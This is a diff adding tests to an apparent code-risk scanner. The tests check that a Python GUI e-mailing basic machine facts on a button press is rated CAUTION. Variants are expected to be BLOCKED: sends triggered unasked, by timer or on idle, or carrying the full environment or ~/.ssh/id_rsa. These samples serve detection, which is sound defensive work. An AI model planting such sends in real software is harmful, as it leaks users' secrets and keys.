@@ -323,4 +323,57 @@ test('a real start-up file named next to code run from a data file is still a ri
   }
 });
 
+// --- A bug report with facts about the machine, sent by the handler of a button the user presses ---
+
+const GUI = (bind: string, body = '', extra = '') => `import os, sys, getpass, smtplib, subprocess, wx
+from email.mime.text import MIMEText
+smtp_server = 'mail.tissue-lab.example'
+bug_report_email = 'bugs@tissue-lab.example'
+class MainFrame(wx.Frame):
+    def __init__(self, parent):
+        wx.Frame.__init__(self, parent)
+        send_b = wx.Button(self, -1, 'Send bug report')
+        ${bind}
+        ${extra}
+    def OnRun(self, event):
+        self.proc = subprocess.Popen([sys.executable, '-c', 'import acmetools.runner; acmetools.runner.main()'])
+    def OnSend(self, event):
+        msg = 'os.getcwd(): %r\\n' % (os.getcwd())
+        msg += 'sys.argv: ' + repr(sys.argv) + '\\n'
+        user = getpass.getuser()
+        msg += 'user: %s\\n' % user
+        ${body}
+        mail = MIMEText(msg)
+        s = smtplib.SMTP()
+        s.connect(smtp_server)
+        s.sendmail(user + '@' + smtp_server, bug_report_email, mail.as_string())
+        s.close()
+`;
+
+test('machine facts e-mailed by the handler of a button the user presses: CAUTION, not BLOCKED', async () => {
+  for (const bind of [
+    'self.Bind(wx.EVT_BUTTON, self.OnSend, id=send_b.GetId())',
+    'self.Bind(wx.EVT_MENU, self.OnSend, id=wx.ID_ANY)',
+    'send_b.clicked.connect(self.OnSend)',
+    "tk.Button(self, text='Send', command=self.OnSend)",
+  ]) {
+    const r = await level({ 'acmetools/gui.py': GUI(bind) });
+    assert.not.equal(r.level, 'BLOCKED', `${bind}: ${r.high.join(' ')}`);
+    assert.equal(r.level, 'CAUTION', bind);
+  }
+});
+
+test('the same report sent unasked, by a timer, or with the environment or a key in it is still BLOCKED', async () => {
+  for (const [bind, body, extra] of [
+    ['self.Bind(wx.EVT_BUTTON, self.OnSend, id=send_b.GetId())', '', 'self.OnSend(None)'],
+    ['self.Bind(wx.EVT_TIMER, self.OnSend, self.timer)', '', ''],
+    ['self.Bind(wx.EVT_IDLE, self.OnSend)', '', ''],
+    ['self.Bind(wx.EVT_BUTTON, self.OnSend, id=send_b.GetId())', "msg += repr(dict(os.environ))", ''],
+    ['self.Bind(wx.EVT_BUTTON, self.OnSend, id=send_b.GetId())', "msg += open(os.path.expanduser('~/.ssh/id_rsa')).read()", ''],
+  ] as const) {
+    const r = await level({ 'acmetools/gui.py': GUI(bind, body, extra) });
+    assert.equal(r.level, 'BLOCKED', `${bind} ${body} ${extra}: ${r.high.join(' ')}`);
+  }
+});
+
 test.run();
